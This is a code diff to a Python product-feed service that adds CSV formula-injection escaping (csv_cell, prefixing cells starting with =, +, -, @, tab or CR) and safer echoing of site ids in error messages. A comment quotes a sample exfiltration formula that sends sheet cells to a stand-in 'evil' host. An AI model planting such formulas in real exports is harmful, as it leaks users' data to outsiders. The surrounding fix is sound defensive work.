@@ -15,7 +15,8 @@ The vendors fetch a shop's catalog by URL once a day, so onetag publishes the on
   file" (UTF-8) with the columns id (which must match the product_id of orders and carts),
   item_group_id, title, link, image_link, description, sku, availability ("in stock" or
   "out of stock"), price ("XXX.YY USD"), brand and product_type (categories separated by
-  "|"), fetched once a day.
+  "|"), fetched once a day. A cell that would open as a spreadsheet formula (= + - @, a
+  tab or a carriage return first) starts with a ' instead (``csv_cell``).
 
 A product is in a feed when it is not deleted and has a link, an image, a title and a
 price (``catalog.feed_problem``; ``onetag catalog`` counts the others, by reason). A product
@@ -42,6 +43,7 @@ from starlette.requests import Request
 from starlette.responses import JSONResponse, Response, StreamingResponse
 
 from . import catalog, money
+from .events import echo
 
 PAGE = 500  # products read a query
 NAMESPACE = "http://base.google.com/ns/1.0"
@@ -101,13 +103,25 @@ def xml_head(title: str, link: str) -> str:
 XML_TAIL = "</channel>\n</rss>\n"
 
 
+# A cell a spreadsheet would read as a formula: Excel, LibreOffice and Google Sheets run a
+# cell opening with one of these (``=HYPERLINK("http://evil/?"&A1,"x")`` sends the sheet's
+# cells away when clicked). Titles and ids are the pages' claims, and an operator may open
+# the feed in one, so such a cell gets a leading ' (OWASP, "CSV Injection"): the
+# spreadsheet shows the text, and the vendors read one character more.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(text: str) -> str:
+    return "'" + text if text.startswith(FORMULA_START) else text
+
+
 def csv_row(row: dict[str, Any]) -> list[str]:
     categories = "|".join(category.replace("|", "/") for category in row["categories"])
     values = (row["item_id"], row["item_group_id"], row["title"], row["description"],
               row["item_url"], row["image_url"], row["sku"],
               REMARKETY_AVAILABILITY[availability(row)], price_text(row), row["brand"],
               categories, row["google_product_category"])
-    return [clean(value) if value is not None else "" for value in values]
+    return [csv_cell(clean(value)) if value is not None else "" for value in values]
 
 
 def etag(kind: str, site: Any, state: tuple[int, int, int], link: str) -> str:
@@ -169,9 +183,9 @@ class Feeds:
         site_id = request.path_params["site_id"]
         site = self.settings.sites.get(site_id)
         if site is None:
-            return _error(404, "not_found", "site", f"no site {site_id!r}")
+            return _error(404, "not_found", "site", f"no site {echo(site_id)}")
         if not site.feed_token:
-            return _error(404, "no_feed", "feed_token", f"site {site_id!r} has no product feed: "
+            return _error(404, "no_feed", "feed_token", f"site {echo(site_id)} has no product feed: "
                           f"set sites[{site_id}].feed_token in the config to publish one")
         given = request.query_params.get("token", "")
         if not hmac.compare_digest(given.encode(), site.feed_token.encode()):
